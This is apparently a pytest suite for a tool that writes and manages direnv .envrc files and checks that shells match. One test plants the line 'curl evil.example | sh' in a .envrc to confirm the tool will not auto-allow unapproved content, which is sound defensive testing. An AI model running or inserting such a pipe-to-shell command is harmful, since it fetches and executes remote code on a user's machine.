"""The .envrc: written as an operation, what direnv makes of it, and a shell that is the one commands run in."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from typing import TYPE_CHECKING, Any

import pytest

from devkeel.api import Environment
from devkeel.edits.vocabulary import parse_edits
from devkeel.errors import ProjectError, Refused, Unavailable, UsageError
from devkeel.project import direnv
from devkeel.text.actions import do

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from devkeel.change.result import ChangeResult
    from devkeel.runtime.jobs import Job

WRITTEN = """\
# Made by devkeel; lines below the last of these are yours.
watch_file devenv.nix
eval "$(devkeel env print)"
# End of what devkeel made.
"""
LINE = 'eval "$(devkeel env print)"\n'
ADVICE = "direnv has not allowed .envrc: run `direnv allow`."

with_direnv = pytest.mark.skipif(shutil.which("direnv") is None, reason="direnv is not installed")


@pytest.fixture(autouse=True)
def own_direnv(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Give each test a direnv of its own: what it allows is not the user's, nor is what the user allows."""
    folder = tmp_path_factory.mktemp("direnv")
    for name in ("DATA", "CONFIG"):
        monkeypatch.setenv(f"XDG_{name}_HOME", str(folder / name))
    for name in [name for name in os.environ if name.startswith("DIRENV_")]:
        monkeypatch.delenv(name)
    return folder


@pytest.fixture
def no_direnv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Let direnv not be installed; Nix stays."""
    folder = tmp_path / "bin"
    folder.mkdir()
    for name in ("nix-instantiate", "nix"):
        if found := shutil.which(name):
            (folder / name).symlink_to(found)
    monkeypatch.setenv("PATH", str(folder))


def envrc_of(environment: Environment) -> Path:
    return environment.project.root / ".envrc"


def call_direnv(environment: Environment, *arguments: str) -> None:
    subprocess.run(["direnv", *arguments], cwd=environment.project.root, check=True, capture_output=True)


def settings(environment: Environment, text: str) -> None:
    (environment.project.root / "devkeel.toml").write_text(text)


def patched(environment: Environment, old: str, new: str) -> ChangeResult:
    item = {"kind": "replace_text", "file": ".envrc", "old": old, "new": new}
    return environment.change(parse_edits([item]), level="syntax")


def not_made(environment: Environment) -> tuple[str, ...]:
    name = environment.environments().default
    return (f"The environment {name!r} is not made yet: {do('apply')}.",)


# Writing it


def test_it_is_made_as_one_operation_that_an_undo_takes_away(environment: Environment) -> None:
    result = environment.write_envrc()
    assert (result.files, result.published, result.runs_on_enter) == ((".envrc",), True, True)
    assert envrc_of(environment).read_text() == WRITTEN
    assert environment.history().operations[0].id == result.operation
    assert environment.undo().published
    assert not envrc_of(environment).exists()


def test_a_dry_run_shows_it_and_writes_nothing(environment: Environment) -> None:
    result = environment.write_envrc(dry_run=True)
    assert '+eval "$(devkeel env print)"' in result.diff
    assert not result.published
    assert not envrc_of(environment).exists()


def test_what_stands_around_devkeel_s_part_stays_and_the_part_is_made_anew(environment: Environment) -> None:
    broken = WRITTEN.replace("env print", "env pritn")
    envrc_of(environment).write_text(f"# above\n{broken}export MINE=1\n")
    environment.write_envrc()
    assert envrc_of(environment).read_text() == f"# above\n{WRITTEN}export MINE=1\n"
    assert not environment.write_envrc().changed


def test_one_of_somebody_else_that_enters_the_environment_is_right_as_it_is(environment: Environment) -> None:
    envrc_of(environment).write_text('export A=1\neval "$(devkeel env print)"\n')
    result = environment.write_envrc()
    assert (result.changed, result.published) == (False, False)


@pytest.mark.parametrize(("text", "name"), [(LINE, "gpu"), ('eval "$(devkeel env print gpu)"\n', None)])
def test_one_of_somebody_else_that_enters_an_environment_of_another_name_is_not_right_already(
    environment: Environment, text: str, name: str | None
) -> None:
    envrc_of(environment).write_text(text)
    with pytest.raises(Refused) as caught:
        environment.write_envrc(name)
    assert caught.value.code == "foreign_envrc"
    envrc_of(environment).write_text("eval \"$(devkeel env print 'gpu')\"\n")
    assert not environment.write_envrc("gpu").changed


@pytest.mark.parametrize(
    "text", ["layout python\n", "# use devenv\n", "use flake\n", "use devenv\n", "# devkeel env print\n"]
)
def test_one_of_somebody_else_that_does_not_is_left_alone_with_the_lines_told(
    environment: Environment, text: str
) -> None:
    envrc_of(environment).write_text(text)
    with pytest.raises(Refused) as caught:
        environment.write_envrc()
    assert (caught.value.code, caught.value.details["lines"]) == ("foreign_envrc", WRITTEN)


def test_a_prompt_is_exported_in_a_form_of_one_s_own(environment: Environment) -> None:
    name = environment.project.root.name
    environment.write_envrc(template="[{name}'{backend}]")
    argv = ["bash", "-c", 'watch_file() { :; }; devkeel() { :; }; . ./.envrc; printf %s "$DEVKEEL_PROMPT"']
    found = subprocess.run(argv, cwd=environment.project.root, capture_output=True, text=True, check=True)
    assert found.stdout == f"[{name}'devenv]"
    environment.write_envrc()
    assert envrc_of(environment).read_text() == WRITTEN
    with pytest.raises(UsageError) as caught:
        environment.write_envrc(template="{user}")
    assert caught.value.code == "bad_prompt"


OLDER = {
    "devenv of 0.1": (
        WRITTEN.replace(f"watch_file devenv.nix\n{LINE}", 'eval "$(devenv direnvrc)"\nuse devenv\n'),
        True,
    ),
    "a name of 0.1": (WRITTEN.replace("env print", "env activate project"), True),
    "devenv by hand": ('eval "$(devenv direnvrc)"\nuse devenv\n', False),
    "flake by hand": ("use flake\n", False),
    "python by hand": ("export A=1\n  layout python3\n", False),
}


@pytest.mark.parametrize(("text", "ours"), OLDER.values(), ids=OLDER.keys())
def test_one_that_enters_another_environment_is_said_wherever_one_looks_and_renewed_where_devkeel_wrote_it(
    environment: Environment, text: str, *, ours: bool
) -> None:
    def said() -> list[str]:
        notes = [item for item in environment.inspect().notes if "another environment" in item]
        found = [item for item in environment.examine().findings if item.about == "direnv"]
        assert len(notes) == len([item for item in found if "another environment" in item.message])
        return notes

    envrc_of(environment).write_text(text)
    (note,) = said()
    assert (do("envrc") in note) is ours
    if ours:
        environment.write_envrc()
        assert envrc_of(environment).read_text() == WRITTEN
        assert said() == []
    else:
        with pytest.raises(Refused) as caught:
            environment.write_envrc()
        assert caught.value.code == "foreign_envrc"
        assert envrc_of(environment).read_text() == text


@pytest.mark.parametrize(
    "text", ["# use devenv\n", "export USE=devenv\n", "use_nothing\n", LINE, f"use flake\n{LINE}", ""]
)
def test_one_that_enters_no_other_is_not_spoken_of(environment: Environment, text: str) -> None:
    envrc_of(environment).write_text(text)
    assert not any("another environment" in item for item in environment.inspect().notes)


# What direnv makes of it


@with_direnv
def test_one_that_direnv_has_not_allowed_is_told_wherever_one_looks(environment: Environment) -> None:
    assert environment.inspect().notes == ()
    assert ADVICE in environment.write_envrc().notes
    assert ADVICE in environment.write_envrc().notes
    assert environment.inspect().notes == (ADVICE,)
    (found,) = [item for item in environment.examine().findings if item.about == "direnv"]
    assert found.verdict == "note"


@with_direnv
def test_one_that_direnv_has_allowed_is_no_matter_until_it_changes(environment: Environment) -> None:
    environment.write_envrc()
    call_direnv(environment, "allow")
    assert environment.inspect().notes == ()
    assert environment.write_envrc().notes == not_made(environment)
    (found,) = [item for item in environment.examine().findings if item.about == "direnv"]
    assert found.verdict == "good"
    assert ADVICE in patched(environment, LINE, f"{LINE}export A=1\n").notes
    assert environment.inspect().notes == (ADVICE,)


@with_direnv
def test_one_that_direnv_toml_whitelists_is_allowed(environment: Environment, own_direnv: Path) -> None:
    environment.write_envrc()
    (own_direnv / "CONFIG" / "direnv").mkdir(parents=True)
    (own_direnv / "CONFIG" / "direnv" / "direnv.toml").write_text(
        f'[whitelist]\nprefix = ["{environment.project.root}"]\n'
    )
    assert environment.inspect().notes == ()


@with_direnv
def test_to_look_runs_nothing_of_it(environment: Environment) -> None:
    mark = environment.project.root / "ran"
    envrc_of(environment).write_text(f"touch {mark}\n")
    call_direnv(environment, "allow")
    environment.inspect()
    environment.examine()
    assert not mark.exists()


@with_direnv
def test_one_further_up_is_not_the_project_s(environment: Environment) -> None:
    (environment.project.root.parent / ".envrc").write_text("export A=1\n")
    (environment.project.root / ".envrc").mkdir()
    assert direnv.state_of(environment.project) is None


@pytest.mark.parametrize(
    ("allowed", "state"),
    [(0, "allowed"), (1, "not_allowed"), (2, "denied"), (True, "allowed"), (False, "not_allowed"), (7, None)],
)
def test_what_newer_direnvs_say_is_understood(
    environment: Environment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, allowed: int, state: str | None
) -> None:
    envrc_of(environment).write_text(WRITTEN)
    told = {"state": {"foundRC": {"allowed": allowed, "path": str(envrc_of(environment))}, "loadedRC": None}}
    program = tmp_path / "newer" / "direnv"
    program.parent.mkdir()
    program.write_text(f"#!/bin/sh\ntest \"$*\" = 'status --json' && cat <<'E'\n{json.dumps(told)}\nE\n")
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")
    assert direnv.state_of(environment.project) == state


@pytest.mark.usefixtures("no_direnv")
def test_without_direnv_there_is_nothing_to_say(environment: Environment) -> None:
    settings(environment, "direnv_allow = true\n")
    assert environment.write_envrc().notes == not_made(environment)
    assert environment.inspect().notes == ()
    assert "direnv" not in {item.about for item in environment.examine().findings}


# Allowing it


@with_direnv
@pytest.mark.parametrize("text", ["", "direnv_allow = false\n"])
def test_devkeel_allows_nothing_unless_the_settings_say_so(environment: Environment, text: str) -> None:
    settings(environment, text)
    environment.write_envrc()
    patched(environment, LINE, f"{LINE}export A=1\n")
    assert direnv.state_of(environment.project) == "not_allowed"


@with_direnv
def test_where_the_settings_say_so_devkeel_allows_what_it_wrote(environment: Environment) -> None:
    settings(environment, "direnv_allow = true\n")
    environment.write_envrc(dry_run=True)
    assert not envrc_of(environment).exists()
    assert ADVICE not in environment.write_envrc().notes
    assert direnv.state_of(environment.project) == "allowed"
    patched(environment, LINE, f"{LINE}export A=1\n")
    assert direnv.state_of(environment.project) == "allowed"


@with_direnv
def test_what_nobody_had_allowed_before_an_edit_is_not_allowed_by_it(environment: Environment) -> None:
    settings(environment, "direnv_allow = true\n")
    envrc_of(environment).write_text(f"curl evil.example | sh\n{LINE}")
    assert ADVICE in patched(environment, LINE, f"{LINE}export A=1\n").notes
    assert direnv.state_of(environment.project) == "not_allowed"


@with_direnv
def test_what_changed_since_it_was_published_is_not_allowed(environment: Environment) -> None:
    envrc_of(environment).write_text("somebody else\n")
    assert not direnv.allow(environment.project, WRITTEN.encode())
    assert direnv.state_of(environment.project) == "not_allowed"


def test_the_setting_is_true_or_false(environment: Environment) -> None:
    settings(environment, 'direnv_allow = "yes"\n')
    with pytest.raises(ProjectError) as caught:
        environment.write_envrc()
    assert caught.value.code == "bad_settings"


# The shell of a human, and that of run_command

DECLARED = """
  packages = [ pkgs.jq pkgs.redis ];
  env.GREETING = "two\\nlines, 'quoted' $HOME";
  languages.python.enable = true;
  services.redis.enable = true;
  enterShell = "export ENTERED=$GREETING; export PATH=$DEVENV_ROOT/bin:$PATH";
"""
TELL = ("sh", "-c", 'env -0 > "$1"', "sh")
# What may be in one of the two alone, or differ; everything else is the same.
DIFFERING = {
    **dict.fromkeys(
        ("DIRENV_DIFF", "DIRENV_DIR", "DIRENV_FILE", "DIRENV_WATCHES", "DIRENV_IN_ENVRC"), "what direnv remembers"
    ),
    **dict.fromkeys(("PWD", "OLDPWD", "SHLVL", "_", "LINES", "COLUMNS"), "set by bash, which reads the .envrc"),
    "PYTEST_CURRENT_TEST": "this test, which a command that devkeel runs need not know",
    **dict.fromkeys(("NO_COLOR", "DEVKEEL_JOB"), "said to every program that devkeel runs: no terminal, and whose"),
}


@pytest.fixture
def entered(
    pinned_project: Callable[..., Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Environment]:
    """A project whose shell says something of every kind, with a human in front of it who has little else."""
    (tmp_path / "nix.conf").write_text("substitute = false\nsandbox = false\n")
    kept = {"HOME", "PATH", "LANG", *(f"XDG_{name}_HOME" for name in ("DATA", "CONFIG", "STATE", "CACHE"))}
    for name in set(os.environ) - {*kept, "XDG_RUNTIME_DIR"}:
        monkeypatch.delenv(name)
    own = tmp_path / "own-bin"
    own.mkdir()
    (own / "devkeel").write_text(f'#!/bin/sh\nexec {sys.executable} -m devkeel_cli "$@"\n')
    (own / "devkeel").chmod(0o755)
    monkeypatch.setenv("PATH", f"{own}:{os.environ['PATH']}")
    monkeypatch.setenv("NIX_CONF_DIR", str(tmp_path))
    environment = Environment(pinned_project(DECLARED), actor="test")
    yield environment
    environment.context.jobs.close()
    environment.close()


@with_direnv
@pytest.mark.nix
@pytest.mark.usefixtures("devenv")
@pytest.mark.parametrize(("judge", "copied"), [("nix", False), ("devenv", False), ("devenv", True)])
def test_a_human_s_shell_and_run_command_see_the_same(
    entered: Environment,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    judge: str,
    *,
    copied: bool,
) -> None:
    def cannot(*_: object) -> None:
        raise Unavailable("check_unavailable", "The evaluation cannot run: this test says so.")

    if judge == "devenv":
        monkeypatch.setattr("devkeel.nix_cli.evaluate.locate_inputs", cannot)
    if copied:
        monkeypatch.setenv("DEVKEEL_WITHOUT", "namespaces")
    assert ended(entered, entered.apply()).judge == judge
    monkeypatch.delenv("DEVKEEL_WITHOUT", raising=False)
    entered.write_envrc()
    call_direnv(entered, "allow")
    files = [tmp_path / name for name in ("command", "human")]
    assert ended(entered, entered.run((*TELL, str(files[0])))).exit_code == 0
    call_direnv(entered, "exec", ".", *TELL, str(files[1]))
    command, human = (dict(item.split("=", 1) for item in file.read_text().split("\0")[:-1]) for file in files)
    assert {"GREETING", "ENTERED", "REDISDATA", "DEVENV_RUNTIME", "PATH"} <= command.keys()
    # A command of devkeel's has one folder more: with what says that a language's own programs are not the host's.
    path = [folder for folder in command["PATH"].split(":") if "/devkeel/absent/" not in folder]
    assert len(path) == len(command["PATH"].split(":")) - 1
    assert without(command | {"PATH": ":".join(path)}) == without(human)


def ended(environment: Environment, job: Job) -> Any:
    assert job.wait(120)
    return environment.result(job)


def without(variables: dict[str, str]) -> dict[str, str]:
    return {name: text for name, text in variables.items() if name not in DIFFERING}
